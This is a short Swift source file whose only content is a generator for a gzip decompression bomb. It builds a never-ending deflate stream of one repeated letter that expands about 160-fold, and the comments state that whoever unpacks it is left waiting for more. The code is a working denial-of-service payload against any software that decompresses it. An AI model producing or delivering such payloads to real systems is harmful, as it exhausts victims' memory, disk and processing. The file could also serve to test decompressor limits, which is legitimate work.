import Foundation

/// The beginning of a gzip file (RFC 1952), about 160 times as long when it is unpacked: one letter, again and again. It has no
/// end: whoever unpacks it waits for more.
enum GzipBomb {
    static func of(_ letter: Unicode.Scalar, bytes: Int) -> Data {
        var bits = Bits()
        // The only block, with the fixed codes (RFC 1951, section 3.2.6): the letter, and then again and again 258 bytes that are
        // those before.
        bits.append(1, count: 1)
        bits.append(1, count: 2)
        bits.append(code: 0x30 + Int(letter.value), count: 8)
        for _ in 0..<(bytes / 258) {
            bits.append(code: 0b1100_0101, count: 8)
            bits.append(code: 0, count: 5)
        }
        return Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]) + bits.bytes
    }

    /// Bits from the lowest of each byte on.
    private struct Bits {
        var bytes = Data()
        private var byte = 0
        private var filled = 0

        mutating func append(_ value: Int, count: Int) {
            for index in 0..<count {
                byte |= (value >> index & 1) << filled
                filled += 1
                if filled == 8 { flush() }
            }
        }

        /// Codes stand with their highest bit first.
        mutating func append(code: Int, count: Int) {
            for index in (0..<count).reversed() { append(code >> index & 1, count: 1) }
        }

        private mutating func flush() {
            bytes.append(UInt8(byte))
            (byte, filled) = (0, 0)
        }
    }
}
